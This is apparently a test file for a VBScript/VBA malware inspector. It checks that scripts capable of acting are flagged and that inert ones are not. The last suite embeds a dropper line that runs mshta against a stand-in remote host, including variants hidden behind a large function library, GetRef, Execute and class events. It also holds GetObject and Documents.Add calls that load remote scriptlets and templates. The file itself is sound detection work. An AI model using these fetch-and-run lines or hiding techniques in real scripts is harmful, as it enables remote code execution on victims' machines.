/** Scripts without any name by which something happens are not evaluated. All others are, wherever the name is. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { withinBudget } from '#inspect/core/work.ts'
import { ourInspector } from '#inspect/testing/inspector.ts'
import { readBasic } from './basic.ts'
import { inertClasses } from './inert.ts'
import { joinLines, tokensOf } from './tokens.ts'

const inspector = await ourInspector()
const classesIn = (source: string): string[] | null => inertClasses(tokensOf(joinLines(source)))

suite('a script that may act', () => {
  const rows = [
    'Execute a',
    'ExecuteGlobal a',
    'x = Eval(a)',
    's.[Run] "a"',
    's. _\nRun "a"',
    'With s : .Run "a" : End With',
    'CreateObject(a).b',
    'CreateObject("a" & "b")',
    'CreateObject("a", "server")',
    'WScript.CreateObject("a", "prefix_")',
    'f = "a" : CreateObject f',
    'GetObject("script:http://192.0.2.1/a.sct")',
    'CallByName s, "Run", 1, a',
    'x = [f("a")]',
    'Declare Sub a Lib "b" ()',
    'Name "a" As "b"',
    'If a Then Name "a" As "b"',
    'm.Attachments.Add "a"',
    'Set d = o.Documents : d.Add "http://192.0.2.1/a.dotm"',
    't.Path = "a"',
    'window.execScript a',
  ]
  for (const row of rows)
    for (const place of ['%', 'Sub a()\n%\nEnd Sub', 'Class c\nSub d()\n%\nEnd Sub\nEnd Class'])
      test(JSON.stringify(place.replace('%', row)), () => assert.equal(classesIn(place.replace('%', () => row)), null))
})

suite('a script that cannot act', () => {
  const rows: readonly [string, string[]][] = [
    ['Sub a(b)\n  b.Name = "x"\n  c = b.Name\nEnd Sub', []],
    ['\'Execute this\nRem s.Run a\na = "Execute b"', []],
    ['Set d = CreateObject("Scripting.Dictionary")\nd.Add 1, 2', ['Scripting.Dictionary']],
    ['name = "x"\nMsgBox name', []],
    ['enumValues = o.EnumValues', []],
  ]
  for (const [source, classes] of rows) test(source, () => assert.deepEqual(classesIn(source), classes))
})

test('what it creates is reported', () => {
  const { effects } = readBasic([{ name: '', text: 'Set a = CreateObject("Forms.Form.1")' }], { isScript: true })
  assert.deepEqual(
    effects.map(({ kind, text }) => [kind, text]),
    [['object', 'forms.form.1']],
  )
})

/** Work for a library of procedures with loops whose end is unknown. */
const LIBRARY = Array.from(
  { length: 200 },
  (_, i) =>
    `Function f${i}(a)\nFor Each x In a\nFor Each y In x.Items\ny.Name = y.Name & f${i}(y)\nNext\nNext\nEnd Function\n`,
).join('')

test('a library costs in proportion to its length', () => {
  const limits = { workMax: Number.POSITIVE_INFINITY, keptBytesMax: Number.POSITIVE_INFINITY }
  const { work } = withinBudget(limits, () => {
    readBasic([{ name: '', text: `${LIBRARY}f1 Repository\nf2 Repository` }], { isScript: true })
  })
  assert.ok(work < LIBRARY.length * 500, String(work))
})

suite('a dropper behind a library is found', () => {
  const start = 'CreateObject("WScript.Shell").Run "mshta http://192.0.2.1/a.hta"'
  const rows = [
    start,
    `Sub a()\n${start}\nEnd Sub\na`,
    `Sub a()\n${start}\nEnd Sub\nSet b = GetRef("a")\nb`,
    `Sub a()\n${start}\nEnd Sub\nExecute "a"`,
    `Sub a()\n${start}\nEnd Sub\nx = Eval("a()")`,
    `Sub a()\n${start}\nEnd Sub`,
    `ExecuteGlobal "Sub a() : ${start.replaceAll('"', '""')} : End Sub"\na`,
    `Class c\nPrivate Sub Class_Initialize()\n${start}\nEnd Sub\nEnd Class\nSet x = New c`,
    `Class c\nPrivate Sub Class_Terminate()\n${start}\nEnd Sub\nEnd Class\nSet x = New c`,
    `Sub window_onload()\n${start}\nEnd Sub`,
  ]
  for (const row of rows)
    test(row, () => {
      const { findings, obstacle } = inspector.inspect(Buffer.from(`${LIBRARY}${row}\n`), { name: 'a.vbs' })
      assert.ok(obstacle !== null || findings.some(({ severity }) => severity === 'malicious'))
    })
})
